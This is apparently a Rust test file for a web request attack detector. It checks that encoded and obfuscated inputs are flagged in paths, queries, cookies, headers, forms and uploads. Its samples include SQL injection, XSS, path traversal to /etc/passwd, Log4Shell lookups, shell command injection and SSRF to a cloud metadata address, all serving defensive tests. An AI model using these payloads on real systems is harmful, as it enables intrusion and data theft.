use base64::prelude::{BASE64_STANDARD, Engine as _};

use super::*;

mod gate;
mod parts;
mod samples;
mod talk;

fn judge_with(detector: &Detector, carrier: Carrier, value: &[u8]) -> Findings {
    let mut scratch = Scratch::default();
    let mut findings = Findings::new();
    let field = Field {
        carrier,
        name: b"field",
        value,
    };
    detector.judge(field, Paranoia::One, &mut scratch, &mut findings);
    findings
}

/// All findings in a value that the gate does not pass, not only enough of them.
fn judge_whole(detector: &Detector, carrier: Carrier, value: &[u8]) -> Findings {
    let mut findings = Findings::new();
    let field = Field {
        carrier,
        name: b"field",
        value,
    };
    if !detector.clean(field) {
        let scratch = &mut Scratch::default();
        detector.judge_until(u32::MAX, field, scratch, &mut findings);
    }
    findings
}

/// An escaped quote inside a string of a document does not end the string, at any layer.
#[test]
fn an_escape_that_is_undone_too_early_parts_no_string() {
    let detector = Detector::new();
    let escaped = |text: &str| {
        text.replace('%', "%25")
            .replace('"', "%22")
            .replace(' ', "%20")
    };
    for document in [
        r#"["1 union/*%22,%22*/select 1,2,3"]"#,
        r#"["1/*%22,%22*/union/*%22,%22*/select/*%22,%22*/password/*%22,%22*/from/*%22,%22*/users"]"#,
        r#"{"id":"1/*%22,%22x%22:%22*/or/*%22,%22y%22:%22*/1=1"}"#,
        r#"{"id":"1;drop/*%22,%22x%22:%22*/table/*%22,%22y%22:%22*/users"}"#,
        r#"["1/*%u0022,%u0022*/union/*%u0022,%u0022*/select/*%u0022,%u0022*/password from users"]"#,
    ] {
        let once = escaped(document);
        for text in [document.to_owned(), once.clone(), escaped(&once)] {
            let wrapped = BASE64_STANDARD.encode(&text);
            for value in [text, wrapped] {
                for carrier in [Carrier::QueryValue, Carrier::CookieValue] {
                    let found = judge_with(&detector, carrier, value.as_bytes());
                    let is_refused = found.total() >= Paranoia::One.threshold();
                    assert!(is_refused, "{document} as {value} in {carrier:?}");
                }
            }
        }
    }
}

/// Escapes below escapes of another kind, plain and in base64.
#[test]
fn escapes_of_two_kinds_hide_nothing() {
    let detector = Detector::new();
    for text in [
        r"\u00253Cscript\u00253Ealert(1)\u00253C/script\u00253E",
        "&#37;27&#37;20union&#37;20select&#37;20password&#37;20from&#37;20users",
    ] {
        for value in [text.to_owned(), BASE64_STANDARD.encode(text)] {
            let found = judge_with(&detector, Carrier::QueryValue, value.as_bytes());
            assert!(found.total() >= Paranoia::One.threshold(), "{value}");
        }
    }
}

#[test]
fn neither_a_blank_in_a_path_nor_a_quote_between_separators_hides_anything() {
    let detector = Detector::new();
    for (carrier, value, refused) in [
        (
            Carrier::Path,
            "/api/v1/code/../../config/Admin%20Users",
            true,
        ),
        (Carrier::Path, "/files/Annual%20report.pdf", false),
        (Carrier::FormValue, ";\";busybox >/www/x.html;\n\"\";", true),
        (Carrier::FormValue, ";'';id >/www/x", true),
        (Carrier::FormValue, "name;;id;;title", false),
        (Carrier::FormValue, ";'';id >/www/x #;;", true),
        (Carrier::FormValue, "\"Anna\";\"\";\"date\";\"x\"", false),
        (Carrier::FormValue, "\"2024\";\"\";\"test\"", false),
        (Carrier::Path, "/x%20y/..%5cetc%5cpasswd", true),
        (Carrier::FormValue, "/tmp/test", false),
        (Carrier::FormValue, "/tmp/sh", true),
        (Carrier::FormValue, "/tmp/nmap", true),
        (Carrier::FormValue, " /sbin/reboot", true),
        (
            Carrier::XmlText,
            "http://x.test/a%0d%0aContent-Type: text/xml",
            true,
        ),
        (
            Carrier::JsonValue,
            "http://x.test/a\nContent-Type: text/xml",
            false,
        ),
    ] {
        let points = judge_with(&detector, carrier, value.as_bytes()).total();
        assert_eq!(points >= Paranoia::One.threshold(), refused, "{value}");
    }
}

/// Samples are judged as values, in which such a segment may be anything.
#[test]
fn a_parameter_of_a_segment_hides_no_climb() {
    let detector = Detector::new();
    for (carrier, value, refused) in [
        (Carrier::Path, "/foo/..;/manager/html", true),
        (Carrier::Path, "/a b/..;x=1/manager", true),
        (Carrier::Path, "/a..;b/c", false),
        (Carrier::Path, "/a;v=1/b", false),
        (Carrier::QueryValue, "a=b/..;c=d", false),
    ] {
        let found = judge_with(&detector, carrier, value.as_bytes()).total();
        assert_eq!(found >= Paranoia::One.threshold(), refused, "{value}");
    }
}

/// In a form, a text may begin on its second line with a word and a colon.
#[test]
fn a_line_break_in_a_cookie_begins_a_header_of_any_name() {
    let detector = Detector::new();
    for (carrier, value, refused) in [
        (Carrier::CookieValue, "\r\n Injected:x", true),
        (Carrier::CookieValue, "\r\n:x", false),
        (Carrier::CookieValue, "a\r\nnote: x", false),
        (Carrier::FormValue, "\r\nNote: x", false),
    ] {
        let found = judge_with(&detector, carrier, value.as_bytes()).total();
        assert_eq!(found >= Paranoia::One.threshold(), refused, "{value:?}");
    }
}

/// No sample of a rule can be written in bytes that are not text.
#[test]
fn bytes_that_are_no_text_hide_nothing() {
    let detector = Detector::new();
    for (carrier, value, refused) in [
        (
            Carrier::Path,
            b"/static/\xc0\xae\xc0\xae/admin".as_slice(),
            true,
        ),
        (Carrier::Path, b"/a b/\xc0\xae\xc0\xae/admin", true),
        (Carrier::Path, b"/static/\xc0\xae\xc0\xb0/admin", false),
        (
            Carrier::QueryValue,
            b"(~\x8c\x86\x8c\x8b\x9a\x92)((~\x9c\x9e\x8b))",
            true,
        ),
        (Carrier::QueryValue, b"(~\x8c\x86\x8c\x8b\x9a\x92)", false),
    ] {
        let found = judge_with(&detector, carrier, value).total();
        assert_eq!(found >= Paranoia::One.threshold(), refused, "{value:x?}");
    }
}

#[test]
fn what_was_clean_in_one_carrier_is_judged_in_another() {
    let detector = Detector::new();
    let scratch = &mut Scratch::default();
    let short = [
        "a/b",
        "x.php",
        "/etc/",
        ".htaccess",
        "C:\\x",
        "?1",
        "*/*",
        "q=0.9",
    ];
    let samples = Detector::rules().flat_map(|rule| rule.hits.iter().chain(rule.misses).copied());
    for sample in samples.filter(|sample| sample.len() < 16).chain(short) {
        for carrier in CARRIERS {
            let mut findings = Findings::new();
            let field = Field {
                carrier,
                name: b"field",
                value: sample.as_bytes(),
            };
            detector.judge(field, Paranoia::One, scratch, &mut findings);
            let anew = judge_with(&detector, carrier, sample.as_bytes());
            assert_eq!(findings.total(), anew.total(), "{sample:?} in {carrier:?}");
        }
    }
}

const CARRIERS: [Carrier; 22] = [
    Carrier::Path,
    Carrier::QueryName,
    Carrier::QueryValue,
    Carrier::QueryFlag,
    Carrier::CookieName,
    Carrier::CookieValue,
    Carrier::Header,
    Carrier::OwnHeader,
    Carrier::FormName,
    Carrier::FormValue,
    Carrier::FormFlag,
    Carrier::JsonKey,
    Carrier::JsonValue,
    Carrier::XmlText,
    Carrier::XmlAttribute,
    Carrier::XmlDtd,
    Carrier::PartName,
    Carrier::FileName,
    Carrier::PartHeader,
    Carrier::PartValue,
    Carrier::FileContent,
    Carrier::Text,
];

#[test]
fn an_attack_is_found_in_every_encoding() {
    let detector = Detector::new();
    let percent = |text: &str| {
        text.bytes()
            .map(|b| format!("%{b:02x}"))
            .collect::<String>()
    };
    for attack in [
        "1' union select password from users--",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "${jndi:ldap://x.test/a}",
        ";cat /etc/passwd",
    ] {
        let once = percent(attack);
        let spellings = [
            once.clone(),
            percent(&once),
            attack.bytes().map(|b| format!("%u{b:04x}")).collect(),
            attack.bytes().map(|b| format!("&#{b};")).collect(),
            attack.bytes().map(|b| format!("&#x{b:x}")).collect(),
            attack.bytes().map(|b| format!("\\u{b:04x}")).collect(),
            attack.bytes().map(|b| format!("\\x{b:02x}")).collect(),
            attack.to_uppercase(),
            attack.chars().flat_map(|c| [c, '\0']).collect(),
        ];
        for spelling in spellings {
            let findings = judge_with(&detector, Carrier::QueryValue, spelling.as_bytes());
            assert!(
                findings.total() >= Paranoia::One.threshold(),
                "{attack} as {spelling}"
            );
        }
    }
}

#[test]
fn the_detector_is_shared_by_threads() {
    fn assert_shared<T: Send + Sync>() {}
    assert_shared::<Detector>();
}

/// Nothing at the start of a value hides what follows.
#[test]
fn a_hundred_mentions_hide_no_call() {
    let detector = Detector::new();
    let found = |rule: &str, decoy: &str, attack: &str| {
        let value = format!("{}{attack}", decoy.repeat(100));
        let findings = judge_whole(&detector, Carrier::QueryValue, value.as_bytes());
        assert!(
            findings.iter().any(|finding| finding.rule == rule),
            "{attack}"
        );
    };
    found("xss-call", "an alert, ", "[1].map(alert)");
    found("code-serialised-object", "a:1:2 ", ";O:3:\"Foo\":0:{}");
}

/// The judge must neither recurse nor repeat searches: each of these values once overflowed the
/// stack or took seconds. The bench `worst_case` measures what they cost.
#[test]
fn repeated_patterns_are_judged_to_their_end() {
    let detector = Detector::new();
    for text in [
        "; ls|",
        "a;x ",
        "<a ",
        "<iframe ",
        "'\"",
        "a(",
        "${",
        "${a:-",
        "..;/",
        "or 1 ",
        "/*",
        "' or ",
        "a=onx",
        "javascript:",
        "{{",
        "`ls`",
        "$ne ",
        "\r\n",
        "%2",
        "&#",
        "//x@",
        "select ",
        "union ",
        "http://",
        "etcpasswd",
        "\\",
        "[](",
        "(*)",
        "data:",
        ",alert)",
        ")(alert)",
        "o:1:\"a\":",
    ] {
        let value: Vec<u8> = text.bytes().cycle().take(64 << 10).collect();
        for carrier in [Carrier::FormValue, Carrier::Path, Carrier::Header] {
            judge_with(&detector, carrier, &value);
        }
    }
}

/// An uploaded style sheet may embed pictures and other sheets, which a page may not.
#[test]
fn style_sheets_may_be_uploaded() {
    let detector = Detector::new();
    let total = |text: &str| judge_with(&detector, Carrier::FileContent, text.as_bytes()).total();
    let style = "@import url(\"fonts.css\");\n.a{background:url(\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'/>\")}";
    assert_eq!(total(style), 0);
    for page in [
        "<s:style>@import url(http://x.test/a)</s:style>",
        "<iframe src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        ".a{background:url(\"data:image/svg+xml;utf8,<svg><script>x</script>\")}",
    ] {
        assert!(total(page) >= Paranoia::One.threshold(), "{page}");
    }
}

/// Letters that are escaped once more than needed are evidence by themselves, whatever they spell.
#[test]
fn harmless_letters_that_are_hidden_are_judged() {
    let detector = Detector::new();
    let link = "http://www.example.net/go?to=%2573%2565%256c%2565%2563%2574";
    for value in [
        "%73%65%6c%65%63%74",
        "say %u0073%u0065%u006c%u0065%u0063%u0074",
        link,
    ] {
        let total = judge_with(&detector, Carrier::QueryValue, value.as_bytes()).total();
        assert!(total >= Paranoia::One.threshold(), "{value}");
    }
    for value in ["%e4%b8%ad%e6%96%87", "a%5fb%2dc%2e%41%42", "100%"] {
        let found = judge_with(&detector, Carrier::QueryValue, value.as_bytes());
        assert!(found.is_empty(), "{value}");
    }
}

/// Clients of services name the language that they are written in.
#[test]
fn the_language_of_a_client_is_no_command() {
    let detector = Detector::new();
    let total = |value: &str| judge_with(&detector, Carrier::Header, value.as_bytes()).total();
    for value in ["sendgrid/6.11.0;python", "client/1.2;nodejs"] {
        assert_eq!(total(value), 0, "{value}");
    }
    for value in [
        "sendgrid/6.11.0;python -c id",
        "client/1.2;id",
        "client/1.2;whoami",
    ] {
        assert!(total(value) >= Paranoia::One.threshold(), "{value}");
    }
}

/// A program that signs its user in tells the server where it listens on the user's machine. In a
/// field of another name, the server would open the same address itself.
#[test]
fn a_browser_may_be_sent_back_to_its_own_machine() {
    let detector = Detector::new();
    let total = |name: &str, value: &str| {
        let mut findings = Findings::new();
        let field = Field {
            carrier: Carrier::QueryValue,
            name: name.as_bytes(),
            value: value.as_bytes(),
        };
        detector.judge(field, Paranoia::One, &mut Scratch::default(), &mut findings)
    };
    for value in ["http://localhost:4444/callback", "http://[::1]:8080/a.html"] {
        assert_eq!(total("redirect_uri", value), 0, "{value}");
    }
    for (name, value) in [
        ("url", "http://localhost:4444/callback"),
        ("redirect_uri", "http://169.254.169.254/latest/meta-data/"),
        ("redirect_uri", "http://localhost/../../etc/passwd"),
        ("redirect_uri", "http://localhost/etc/passwd"),
    ] {
        let total = total(name, value);
        assert!(total >= Paranoia::One.threshold(), "{name}={value}");
    }
}
